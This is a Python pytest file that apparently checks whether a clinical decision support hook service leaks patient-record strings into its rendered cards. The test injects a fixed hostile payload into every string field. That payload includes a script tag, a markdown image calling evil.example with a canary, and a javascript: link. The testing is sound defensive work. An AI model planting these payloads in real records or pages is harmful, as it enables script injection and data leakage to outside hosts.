"""Every string of a record, one after the other, with markup at its end: none of it stands in a card.

Only the resource of an action may hold what the record holds: a draft order points at the record's own resources.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.attack.corpus import hook_requests
from tests.attack.hostile import CANARY, MARKUP
from tests.attack.target import Target

HOSTILE = f"{MARKUP}<script>{CANARY}</script>![x](https://evil.example/{CANARY})[x](javascript:{CANARY})"


def strings(node: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Any, Any]]:
    """Each string: where it stands by names alone, its container, and its key."""
    kind = node.get("resourceType") if isinstance(node, dict) else None
    path = (*path, kind) if isinstance(kind, str) else path
    for key, value in node.items() if isinstance(node, dict) else enumerate(node):
        here = (*path, key) if isinstance(key, str) else path
        if isinstance(value, str):
            yield here, node, key
        elif isinstance(value, dict | list):
            yield from strings(value, here)


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Target:
    return Target(tmp_path_factory.mktemp("strings"))


@pytest.mark.parametrize("how", ["behind", "instead"])
def test_no_string_of_a_record_reaches_a_card(target: Target, how: str) -> None:
    met: set[tuple[str, ...]] = set()
    cards = 0
    for body in hook_requests():
        document = json.loads(body)
        hook = document.get("hook")
        for path, container, key in list(strings(document)):
            if (hook, *path) in met or path == ("hook",):
                continue
            met.add((hook, *path))
            before = container[key]
            container[key] = before + HOSTILE if how == "behind" else HOSTILE
            answer = target.call("POST", f"/cds-services/leg-cramp-{hook}", body=json.dumps(document).encode())
            container[key] = before
            assert answer.status in (200, 400, 412), path
            assert CANARY not in without_resources(answer.body), path
            cards += b'"summary"' in answer.body
    assert len(met) > 150
    assert cards > 100
    target.forget_log()


def without_resources(body: bytes) -> str:
    document = json.loads(body)
    for card in document.get("cards", ()):
        for suggestion in card.get("suggestions", ()):
            for action in suggestion.get("actions", ()):
                action.pop("resource", None)
                action.pop("resourceId", None)
    return json.dumps(document)
